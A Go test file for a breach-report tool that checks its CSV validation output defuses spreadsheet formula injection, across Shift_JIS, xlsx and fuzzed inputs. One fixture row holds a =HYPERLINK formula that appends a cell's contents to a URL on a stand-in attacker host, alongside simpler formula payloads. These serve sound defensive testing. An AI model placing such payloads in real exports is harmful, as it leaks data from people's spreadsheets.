package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/japanese"

	"breachreport/analysis"
	"breachreport/data"
	"breachreport/i18n"
	"breachreport/input"
	"breachreport/internal/inputtest"
)

// csvColumns are the columns of validate --format csv, in order: the keys of an issue in
// --format json.
var csvColumns = []string{"kind", "severity", "line", "column", "header", "column_index", "sheet", "cell", "value", "incident_id", "message"}

// consultantInput is an incident list as a Japanese consultant keeps it, with a problem of
// most kinds: Japanese headers, era dates, 万 counts, a typo in a date, rows of one incident
// that disagree, a row with no organization, and formula payloads in an id, a count, a
// certainty and dates. Its file is Shift_JIS (consultantFile).
const consultantInput = `事案ID,企業名,漏えい情報,確度,件数,漏えい開始日,漏えい終了日,発覚日,公表日,備考
j-1,株式会社あ,クレジットカード情報,確認,"4万1,355件",2018/9/3,平成30年12月27日7,2018/12/27,令和元年6月4日,終了日の誤記
j-1,株式会社あ,個人情報,可能性,2606,,,2018/12/27,令和元年6月5日,公表日が食い違う
j-2,,個人情報,確定,10,,,,2019/6/6,企業名なし
"=HYPERLINK(""https://attacker.example/?x=""&A1,""click"")",株式会社い,個人情報,+1+2,=1+2,,,-1+2,@SUM(1+2),数式
j-4,株式会社う,個人情報,確定,'=1+2,,,,令和元年6月7日,引用符
`

// consultantFile writes consultantInput as Shift_JIS into a temporary file.
func consultantFile(t *testing.T) string {
	t.Helper()
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(consultantInput))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "事案一覧.csv")
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// consultantWorkbook writes consultantInput into sheet 事案一覧 of an .xlsx workbook, so that
// the issues name a sheet and a cell.
func consultantWorkbook(t *testing.T) string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(consultantInput)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	f := excelize.NewFile()
	defer f.Close()
	if err := f.SetSheetName("Sheet1", "事案一覧"); err != nil {
		t.Fatal(err)
	}
	for r, rec := range recs {
		for c, v := range rec {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			// Text cells, as typed: a value such as =1+2 stays text, not a formula.
			if err := f.SetCellStr("事案一覧", cell, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	path := filepath.Join(t.TempDir(), "事案一覧.xlsx")
	if err := f.SaveAs(path); err != nil {
		t.Fatal(err)
	}
	return path
}

// valueOfCell undoes inertCell: the value a cell of validate --format csv stands for, less
// any carriage return.
func valueOfCell(c string) string {
	if strings.HasPrefix(c, "'") {
		return c[1:]
	}
	return c
}

// startsFormula says whether a spreadsheet could take cell c of a CSV file for a formula.
func startsFormula(c string) bool {
	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0]))
}

// readValidationCSV checks that out is a UTF-8 CSV table with a byte-order mark, CRLF line
// ends and the header csvColumns, and returns its rows after the header.
func readValidationCSV(t *testing.T, out string) [][]string {
	t.Helper()
	body, ok := strings.CutPrefix(out, "\uFEFF")
	if !ok {
		t.Fatalf("the table does not start with a UTF-8 byte-order mark: %q", out[:min(len(out), 20)])
	}
	if strings.HasPrefix(body, "\uFEFF") {
		t.Error("two byte-order marks")
	}
	if n, crlf := strings.Count(body, "\n"), strings.Count(body, "\r\n"); n != crlf || n == 0 {
		t.Errorf("%d line ends, %d of them CRLF; want all CRLF", n, crlf)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the table does not parse as CSV: %v\n%s", err, body)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], csvColumns) {
		t.Fatalf("header row %q, want %q", recs[0:min(1, len(recs))], csvColumns)
	}
	for i, rec := range recs {
		for j, c := range rec {
			if startsFormula(c) {
				t.Errorf("row %d column %s starts a formula: %q", i+1, csvColumns[j], c)
			}
		}
	}
	return recs[1:]
}

// issueCells are the cells of validate --format csv that an issue should give, as values
// (before inertCell), with carriage returns taken out.
func issueCells(is data.Issue) []string {
	num := func(n int) string {
		if n == 0 {
			return ""
		}
		return strconv.Itoa(n)
	}
	cells := []string{string(is.Kind), is.Severity.String(), num(is.Line), is.Column, is.Header, num(is.ColumnIndex),
		is.Sheet, is.Cell, data.ShownInCell(is.Value), is.IncidentID, is.Message.String()}
	for i, c := range cells {
		cells[i] = strings.ReplaceAll(c, "\r", "")
	}
	return cells
}

// TestValidateCSV runs validate --format csv on inputs of every sort and checks the table
// cell by cell against the issues that input.Read and analysis.Builder find (every issue,
// grouped by kind in the order of data.Kinds, in line order within a kind), against the
// issues of --format json, and that the accounting is on stderr, as text prints it, with the
// same exit status as text and json.
func TestValidateCSV(t *testing.T) {
	sample := filepath.Join(t.TempDir(), "sample.csv")
	if err := os.WriteFile(sample, input.Sample(), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name          string
		path          string
		sheet, mapped string
		// wantIssues and wantStatus are counted by hand from the input.
		wantIssues, wantStatus int
	}{
		{name: "bad rows", path: "testdata/bad-rows.csv", wantIssues: 9, wantStatus: 1},
		{name: "seed typo", path: "testdata/seed-typo.csv", wantIssues: 1, wantStatus: 0},
		// The missing organization, the typo, two bad dates, two bad counts, the bad
		// certainty and the conflicting disclosure.
		{name: "Japanese Shift_JIS", path: consultantFile(t), wantIssues: 8, wantStatus: 1},
		{name: "Japanese workbook", path: consultantWorkbook(t), sheet: "事案一覧", wantIssues: 8, wantStatus: 1},
		// The real export's own mistake on line 47: detected and disclosed before the start.
		{name: "mapped layout", path: "examples/mappings/wa-ag.csv", mapped: "examples/mappings/wa-ag.toml", wantIssues: 2, wantStatus: 0},
		{name: "clean sample", path: sample, wantIssues: 0, wantStatus: 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := []string{"validate", "-i", tt.path}
			opts := input.Options{Now: fixedNow, Sheet: tt.sheet}
			if tt.sheet != "" {
				args = append(args, "--sheet", tt.sheet)
			}
			if tt.mapped != "" {
				args = append(args, "--map", tt.mapped)
				f, err := os.Open(tt.mapped)
				if err != nil {
					t.Fatal(err)
				}
				defer f.Close()
				if opts.Mapping, err = input.ParseMapping(f, tt.mapped); err != nil {
					t.Fatal(err)
				}
			}

			// The issues as the library finds them, grouped as validate lists them.
			in, err := os.Open(tt.path)
			if err != nil {
				t.Fatal(err)
			}
			defer in.Close()
			res, err := inputtest.Read(in, opts)
			if err != nil {
				t.Fatal(err)
			}
			var build analysis.Builder
			build.Add(res.Scopes)
			rep, err := build.Report(context.Background(), res)
			if err != nil {
				t.Fatal(err)
			}
			want := rep.Issues
			kindOrder := data.Kinds()
			slices.SortStableFunc(want, func(a, b data.Issue) int {
				return slices.Index(kindOrder, a.Kind) - slices.Index(kindOrder, b.Kind)
			})
			if len(want) != tt.wantIssues {
				t.Fatalf("input.Read finds %d issues, want %d: %v", len(want), tt.wantIssues, want)
			}

			text := runCmd(t, "", args...)
			js := runCmd(t, "", append(args, "--format", "json")...)
			r := runCmd(t, "", append(args, "--format", "csv")...)
			if r.status != tt.wantStatus || text.status != r.status || js.status != r.status {
				t.Errorf("exit status: csv %d, text %d, json %d; want %d", r.status, text.status, js.status, tt.wantStatus)
			}

			rows := readValidationCSV(t, r.stdout)
			if len(rows) != len(want) {
				t.Errorf("%d rows, want one per issue: %d", len(rows), len(want))
			}
			for i := range min(len(rows), len(want)) {
				for j, w := range issueCells(want[i]) {
					if got := valueOfCell(rows[i][j]); got != w {
						t.Errorf("row %d (%s line %d) column %s = %q, want %q", i+1, want[i].Kind, want[i].Line, csvColumns[j], got, w)
					}
				}
			}

			// The same rows as the JSON's issues, key by key.
			checkCSVMatchesJSON(t, r.stdout, js.stdout)

			// stdout is the table alone; stderr has the accounting as text prints it.
			if accountingRE.MatchString(r.stdout) {
				t.Error("the accounting is in the table on stdout")
			}
			// The text's lines that start with the input's name (the issues are indented),
			// after the lines on the columns it lacks, which go to stderr first.
			var wantErr string
			for _, l := range strings.SplitAfter(text.stderr+text.stdout, "\n") {
				if strings.HasPrefix(l, tt.path+": ") {
					wantErr += l
				}
			}
			if tt.wantStatus != 0 {
				wantErr += "breachreport: " + strconv.Itoa(res.RowsRejected) + " of " + strconv.Itoa(res.RowsRead) + " rows rejected (listed in the CSV table on standard output)\n"
			}
			if r.stderr != wantErr {
				t.Errorf("stderr:\n%s\nwant:\n%s", r.stderr, wantErr)
			}
			if !accountingRE.MatchString(r.stderr) {
				t.Errorf("no accounting on stderr: %q", r.stderr)
			}
		})
	}
}

// TestValidateCSVFormulaInjection runs validate --format csv on input whose ids, counts,
// certainties and dates are formula payloads: every payload is in the table exactly, with a
// single quote in front, in the value and the incident_id columns; no cell starts a
// formula; and a value that starts with a quote gets a second one, so that the quote can
// always be taken off again.
func TestValidateCSVFormulaInjection(t *testing.T) {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{"incident_id", "organization", "records", "certainty", "disclosed"})
	payloads := append(slices.Clone(formulaPayloads), "\t=1+2", "\r=1+2", "'quoted", "'=1+2")
	// What each payload is in the table: a quote in front. A lone CR is a line ending, in
	// quotes too, which the reader reads as a line feed: a value that starts with one starts
	// no formula and is as it is.
	cells := append(slices.Clone(formulaPayloads), "\t=1+2", "\n=1+2", "'quoted", "'=1+2")
	for i := range cells {
		if !strings.HasPrefix(cells[i], "\n") {
			cells[i] = "'" + cells[i]
		}
	}
	// The ids are the payloads made unique (the reader trims an id, so "\t=1+2" alone
	// would be the id "=1+2" again).
	id := func(i int) string { return payloads[i] + " #" + strconv.Itoa(i) }
	// starts[i] is the line row i starts on: the payloads' line endings (a lone CR among
	// them) make rows of several lines.
	lines := func() int {
		w.Flush()
		t := strings.ReplaceAll(b.String(), "\r\n", "\n")
		return 1 + strings.Count(t, "\n") + strings.Count(t, "\r")
	}
	var starts []int
	for i, p := range payloads {
		starts = append(starts, lines())
		w.Write([]string{id(i), "Org " + strconv.Itoa(i), p, p, p})
	}
	starts = append(starts, lines())
	r := runCmd(t, b.String(), "validate", "-i", "-", "--format", "csv")
	if r.status != 0 {
		t.Fatalf("exit %d: %s", r.status, r.stderr)
	}
	rows := readValidationCSV(t, r.stdout)
	col := func(name string) int { return slices.Index(csvColumns, name) }
	for i, p := range payloads {
		// Each payload is a bad count, a bad certainty and a bad date on its line.
		var kinds []string
		for _, row := range rows {
			if l, _ := strconv.Atoi(row[col("line")]); l < starts[i] || l >= starts[i+1] {
				continue
			}
			kinds = append(kinds, row[col("kind")])
			if got := row[col("value")]; got != cells[i] {
				t.Errorf("line %d: value %q, want %q for %q", starts[i], got, cells[i], p)
			}
			// The id is read trimmed, so a tab or CR in front is gone.
			if got, want := row[col("incident_id")], "'"+strings.TrimSpace(id(i)); got != want {
				t.Errorf("line %d: incident_id %q, want %q", starts[i], got, want)
			}
		}
		slices.Sort(kinds)
		if want := []string{"certainty", "count", "date"}; !slices.Equal(kinds, want) {
			t.Errorf("line %d (%q): issues of kinds %q, want %q", starts[i], p, kinds, want)
		}
	}
	if len(rows) != 3*len(payloads) {
		t.Errorf("%d rows, want %d", len(rows), 3*len(payloads))
	}
}

// TestInertCell checks the guard on each kind of value.
func TestInertCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"12.9", "12.9"},
		{"2019-03-09", "2019-03-09"},
		{"a=b", "a=b"},
		{"令和元年6月4日", "令和元年6月4日"},
		{"=1+2", "'=1+2"},
		{"+1+2", "'+1+2"},
		{"-4", "'-4"},
		{"@SUM(1+2)", "'@SUM(1+2)"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'=1+2"},
		{"a\r\nb", "a\nb"},
		{"'quoted", "''quoted"},
		{" =1+2", " =1+2"},
	}
	for _, tt := range tests {
		got := inertCell(tt.in)
		if got != tt.want {
			t.Errorf("inertCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back, want := valueOfCell(got), strings.ReplaceAll(tt.in, "\r", ""); back != want {
			t.Errorf("valueOfCell(%q) = %q, want %q back", got, back, want)
		}
	}
}

// checkCSVMatchesJSON checks that csvOut, the output of validate --format csv, is the table
// of the issues in jsonOut, the output of --format json on the same input: one row per
// issue, in order, each cell the JSON's value made inert. When the input could not be read
// at all, both are empty.
func checkCSVMatchesJSON(t *testing.T, csvOut, jsonOut string) {
	t.Helper()
	if jsonOut == "" {
		if csvOut != "" {
			t.Errorf("json printed nothing, csv printed %q", truncateOutput(csvOut))
		}
		return
	}
	var doc struct {
		Issues []issueRow `json:"issues"`
	}
	if err := json.Unmarshal([]byte(jsonOut), &doc); err != nil {
		t.Fatalf("json: %v", err)
	}
	rows := readValidationCSV(t, csvOut)
	if len(rows) != len(doc.Issues) {
		t.Fatalf("csv has %d rows, json %d issues", len(rows), len(doc.Issues))
	}
	num := func(n blankZero) string {
		if n == 0 {
			return ""
		}
		return strconv.Itoa(int(n))
	}
	for i, is := range doc.Issues {
		want := []string{string(is.Kind), is.Severity, num(is.Line), is.Column, is.Header, num(is.ColumnIndex),
			is.Sheet, is.Cell, data.ShownInCell(is.Value), is.IncidentID, is.Message}
		for j, w := range want {
			if got := valueOfCell(rows[i][j]); got != strings.ReplaceAll(w, "\r", "") {
				t.Errorf("row %d column %s = %q, json has %q", i+1, csvColumns[j], truncateOutput(got), truncateOutput(w))
			}
		}
	}
}

// FuzzValidationCSV writes one issue with any text through writeValidationCSV: the table
// parses back, no cell starts a formula, and each cell, its leading quote taken off, is the
// text with carriage returns taken out.
func FuzzValidationCSV(f *testing.F) {
	for _, p := range append(slices.Clone(formulaPayloads), "", "'", "''x", "-4", "\r\n", "a\rb", "\t", "企業名", "\"", ",", "\uFEFF=1") {
		f.Add(p, "header", p, 3)
	}
	f.Fuzz(func(t *testing.T, value, header, id string, line int) {
		if line < 0 {
			line = -line
		}
		is := data.Issue{Kind: data.KindCount, Severity: data.Warning, Line: line, Column: "records", Header: header,
			ColumnIndex: 5, Value: value, IncidentID: id, Message: data.Msgf("not a count: %s", value)}
		var b bytes.Buffer
		if err := writeValidationCSV(&b, heldIssues(analysis.Report{Issues: []data.Issue{is}}, i18n.En)); err != nil {
			t.Fatal(err)
		}
		rows := readValidationCSV(t, b.String())
		if len(rows) != 1 {
			t.Fatalf("%d rows for one issue", len(rows))
		}
		for j, w := range issueCells(is) {
			if got := valueOfCell(rows[0][j]); got != w {
				t.Errorf("column %s = %q, want %q", csvColumns[j], got, w)
			}
		}
	})
}
